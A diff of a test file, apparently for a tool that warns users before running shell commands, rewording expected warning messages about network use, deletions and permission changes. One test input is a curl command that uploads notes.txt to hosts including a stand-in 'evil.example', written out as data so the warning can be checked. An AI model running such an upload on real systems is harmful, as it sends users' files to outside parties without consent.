@@ -73,7 +73,7 @@ test('what a command would send, and where, is told as far as its words say it',
   ]);
   expect(told('curl https://a.example')).toEqual(['This needs your yes: it wants the network', '  wants to use the network: a.example']);
   expect(told('curl -d @notes.txt https://a.example evil.example')[1]).toBe(
-    '  would send notes.txt to a.example; perhaps more, or to others',
+    '  would send notes.txt to a.example; perhaps more, or to other hosts',
   );
   expect(told('make deploy; curl https://a.example')[1]).toBe('  wants to use the network: a.example, perhaps others');
 });
@@ -135,7 +135,7 @@ test('a folder of many files is one line on a screen, and all of it on the pages
 test('a folder of more files than are listed is one line, too', () => {
   const effects = [2, 1, 0].map((at) => ({ path: `/home/ada/many/${at}`, change: 'deleted' as const }));
   const lines = effectLines({ ...asked, effects: [{ path: '/home/ada/many', change: 'deleted' }, ...effects], more: 700 }).map(textOf);
-  expect(lines).toEqual(['  deletes many/ (with all that is in it)', '  and 700 further effects, too many to list']);
+  expect(lines).toEqual(['  deletes many/ (with everything in it)', '  and 700 further effects, too many to list']);
 });
 
 describe('on a screen', () => {
@@ -241,7 +241,7 @@ describe('on a screen', () => {
     expect(harmScreen({ ...asked, effects }, screen).rows).toEqual(
       expect.arrayContaining([
         '  creates .git/hooks/pre-commit',
-        '  changes permissions or times of 140 paths',
+        '  changes permissions or timestamps of 140 paths',
         '  makes a commit in .git (33 files)',
       ]),
     );
